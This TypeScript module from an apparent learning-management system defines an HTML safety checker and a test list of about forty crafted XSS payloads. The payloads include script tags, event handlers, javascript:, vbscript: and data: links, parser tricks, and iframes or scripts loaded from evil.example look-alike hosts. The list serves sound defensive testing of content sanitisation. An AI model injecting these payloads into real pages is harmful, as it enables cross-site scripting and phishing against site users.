import { type DefaultTreeAdapterMap, parse, parseFragment } from 'parse5';

type Node = DefaultTreeAdapterMap['childNode'] | DefaultTreeAdapterMap['parentNode'];
type Element = DefaultTreeAdapterMap['element'];

const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'srcset', 'srcdoc']);
const NEVER = new Set(['script', 'object', 'embed', 'applet', 'base', 'meta', 'link', 'form', 'frame', 'frameset', 'style', 'svg', 'math']);

/**
 * Everything in an HTML text (a whole page or a fragment) that could run a script or load a
 * foreign frame, as a browser would parse it: a script-capable element, an event-handler or
 * `style` attribute, a URL attribute whose scheme is not http(s)/mailto (javascript:, data:,
 * vbscript:, with the browser's own stripping of tabs and newlines), and an iframe whose source
 * is not https on one of `frameHosts`. [] when there is none.
 */
export function findUnsafeHtml(text: string, frameHosts: readonly string[], options: { wholePage?: boolean } = {}): string[] {
  const root = options.wholePage ? parse(text) : parseFragment(text);
  const found: string[] = [];
  const walk = (node: Node, path: string) => {
    const element = 'tagName' in node ? (node as Element) : null;
    const here = element ? `${path}/${element.tagName}` : path;
    if (element) {
      // The page's own scripts are files of ours (script src="/dashboard/assets/..."), which a page may have.
      const ownScript =
        element.tagName === 'script' && element.attrs.some((a) => a.name === 'src' && a.value.startsWith('/dashboard/assets/'));
      const ownStyle =
        element.tagName === 'link' && element.attrs.some((a) => a.name === 'href' && a.value.startsWith('/dashboard/assets/'));
      const pageHead = options.wholePage && ['meta', 'link'].includes(element.tagName);
      // The page's own forms (language, sign-out, mark complete) post to paths of the LMS.
      const ownForm =
        options.wholePage && element.tagName === 'form' && element.attrs.some((a) => a.name === 'action' && a.value.startsWith('/'));
      if (NEVER.has(element.tagName) && !ownScript && !ownStyle && !pageHead && !ownForm) found.push(`${here}: <${element.tagName}>`);
      for (const { name, value } of element.attrs) {
        if (name.startsWith('on')) found.push(`${here}: event handler ${name}`);
        if (name === 'style') found.push(`${here}: style attribute`);
        if (URL_ATTRIBUTES.has(name)) {
          const scheme = schemeOf(value);
          if (scheme !== null && !['http', 'https', 'mailto'].includes(scheme)) found.push(`${here}: ${name} with scheme ${scheme}:`);
        }
      }
      if (element.tagName === 'iframe') {
        const src = element.attrs.find((a) => a.name === 'src')?.value ?? '';
        let host = '';
        try {
          const url = new URL(src);
          host = url.protocol === 'https:' ? url.hostname : '';
        } catch {}
        if (!frameHosts.includes(host)) found.push(`${here}: iframe from ${JSON.stringify(src)}`);
      }
    }
    const children = 'childNodes' in node ? node.childNodes : [];
    for (const child of children) walk(child as Node, here);
    if (element?.tagName === 'template' && 'content' in element) walk(element.content as unknown as Node, `${here}/#content`);
  };
  walk(root as Node, '');
  return found;
}

/** A URL's scheme as a browser reads it (leading spaces and any tab or newline inside ignored), or null for a relative URL. */
function schemeOf(value: string): string | null {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers strip these before reading the scheme.
  const cleaned = value.replace(/^[\u0000-\u0020]+/, '').replace(/[\t\n\r]/g, '');
  const match = cleaned.match(/^([a-zA-Z][a-zA-Z0-9+.-]*):/);
  return match ? match[1]!.toLowerCase() : null;
}

/** Crafted Markdown and HTML an author could store as chapter content, one per way in. */
export const XSS_VECTORS: Record<string, string> = {
  'script element': '<script>alert(1)</script>',
  'script in a paragraph': 'Bacaan <script src="https://evil.example/x.js"></script> ini',
  'script split by markdown': '<scr<script>ipt>alert(1)</script>',
  'event handler on an image': '<img src="https://cdn.example/a.png" onerror="alert(1)">',
  'event handler, unquoted': '<img src=x onerror=alert(1)>',
  'event handler on a div': '<div onclick="alert(1)" onmouseover=alert(2)>klik</div>',
  'svg onload': '<svg onload=alert(1)><circle r="1"/></svg>',
  'body onload': '<body onload=alert(1)>',
  'details ontoggle': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'markdown link to javascript:': '[klik](javascript:alert(1))',
  'markdown link, upper case': '[klik](JAVASCRIPT:alert(1))',
  'markdown link with entity tab': '[klik](java&#x09;script:alert(1))',
  'html link to javascript:': '<a href="javascript:alert(1)">klik</a>',
  'html link with an entity tab': '<a href="jav&#x09;ascript:alert(1)">klik</a>',
  'html link with leading spaces': '<a href="  javascript:alert(1)">klik</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">klik</a>',
  'data: link': '<a href="data:text/html,<script>alert(1)</script>">klik</a>',
  'data: image in markdown': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'autolink javascript': '<javascript:alert(1)>',
  'foreign iframe': '<iframe src="https://evil.example/phish"></iframe>',
  'iframe by http from an allowed host': '<iframe src="http://www.youtube.com/embed/x"></iframe>',
  'protocol-relative iframe': '<iframe src="//www.youtube.com/embed/x"></iframe>',
  'iframe with javascript src': '<iframe src="javascript:alert(1)"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'iframe on a look-alike host': '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  'iframe with userinfo': '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  'object and embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  'form with javascript action': '<form action="javascript:alert(1)"><button>kirim</button></form>',
  'button formaction': '<button formaction="javascript:alert(1)">x</button>',
  'style element': '<style>body{background:url(javascript:alert(1))}</style>',
  'style attribute': '<p style="background:url(javascript:alert(1))">x</p>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'base href': '<base href="https://evil.example/">',
  'math xlink': '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  'template content': '<template><script>alert(1)</script></template>',
  'noscript trick': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'comment trick': '<!--<img src="--><img src=x onerror=alert(1)//">',
  'textarea escape': '<textarea><script>alert(1)</script></textarea>',
  'link element': '<link rel="stylesheet" href="https://evil.example/x.css">',
};
